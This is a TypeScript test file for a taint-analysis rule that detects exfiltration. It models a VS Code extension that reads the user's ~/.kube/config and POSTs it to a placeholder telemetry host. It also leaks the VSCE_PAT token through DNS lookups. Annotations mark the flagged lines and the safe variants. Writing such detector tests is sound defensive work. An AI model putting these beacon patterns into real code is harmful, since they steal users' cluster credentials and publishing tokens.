// Tests for exfiltration.yaml (js.taint.exfiltration): typed code, a VS Code
// extension that phones home.
import * as fs from 'node:fs';
import * as os from 'node:os';
import { join } from 'node:path';
import { promises as dnsp } from 'node:dns';

interface Beacon {
  id: string;
  payload: string;
}

const ENDPOINT = 'https://telemetry.example.org/v1';

function kubeConfig(): string {
  return fs.readFileSync(join(os.homedir(), '.kube/config'), 'utf8');
}

export async function beacon(): Promise<void> {
  const b: Beacon = { id: os.hostname(), payload: kubeConfig() };
  // ruleid: js.taint.exfiltration
  await fetch(ENDPOINT, { method: 'POST', body: JSON.stringify(b) });
}

export async function beaconFields(): Promise<void> {
  const b: Beacon = { id: os.hostname(), payload: kubeConfig() };
  // Field sensitivity: only b.id is sent.
  // ok: js.taint.exfiltration
  await fetch(ENDPOINT, { method: 'POST', body: b.id });
}

export async function dnsBeacon(): Promise<void> {
  const token: string = process.env.VSCE_PAT ?? '';
  // ruleid: js.taint.exfiltration
  await dnsp.lookup(`${token.slice(0, 30)}.telemetry.example.org`);
  // Only the length of the secret.
  // ok: js.taint.exfiltration
  await dnsp.lookup(`${token.length}.telemetry.example.org`);
}
